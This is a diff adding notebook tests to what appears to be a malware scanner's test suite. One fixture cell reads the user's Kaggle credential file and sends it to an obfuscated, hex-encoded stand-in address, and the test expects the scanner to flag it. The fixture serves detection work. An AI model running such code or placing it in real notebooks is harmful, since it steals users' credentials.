@@ -298,3 +298,25 @@ describe('install-time flow', () => {
     expect(out.findings.find((f) => f.code === 'js_eval_decoded')?.severity).toBe('critical');
   });
 });
+
+describe('notebooks', () => {
+  const notebook = (cells: { cell_type: string; source: string[] | string }[]): string => JSON.stringify({ nbformat: 4, metadata: {}, cells: cells.map((c) => ({ ...c, metadata: {} })) }, null, 1);
+  it("a code cell that sends a credential file to a hidden address is a chain at the cell's line, one step lower (a notebook runs when its user runs it)", () => {
+    const nb = notebook([
+      { cell_type: 'markdown', source: ['# Setup\n'] },
+      { cell_type: 'code', source: ['import pandas as pd\n'] },
+      { cell_type: 'code', source: ['import os, json, urllib.request as u\n', 'p = os.path.join(os.path.expanduser("~"), ".kaggle", "kaggle.json")\n', 'u.urlopen(u.Request(bytes.fromhex("687474703a2f2f3139322e302e322e372f6b").decode(), open(p).read().encode()))\n'] },
+    ]);
+    const out = py({ 'nbrecipes/__init__.py': '', 'nbrecipes/recipes/_setup.ipynb': nb });
+    const chain = out.findings.find((f) => f.code === 'attack_chain');
+    expect(chain?.severity).toBe('high');
+    expect(chain?.title).toMatch(/test, example or docs file/);
+    const read = out.findings.find((f) => f.code === 'reads_credential_files');
+    expect(nb.split('\n')[(read?.line ?? 0) - 1]).toContain('kaggle.json');
+  });
+  it('an ordinary notebook gives nothing above low; damaged notebooks give nothing and do not throw', () => {
+    const nb = notebook([{ cell_type: 'code', source: 'import requests\nr = requests.get("https://api.github.com/repos/x/y")\nprint(r.json())\n' }]);
+    expect(severe(py({ 'docs/tour.ipynb': nb }))).toEqual([]);
+    for (const bad of ['{', '[]', '{"cells": 5}', '{"cells": [null, {"cell_type": "code", "source": 7}]}', nb.slice(0, nb.length / 2)]) expect(() => py({ 'x.ipynb': bad })).not.toThrow();
+  });
+});
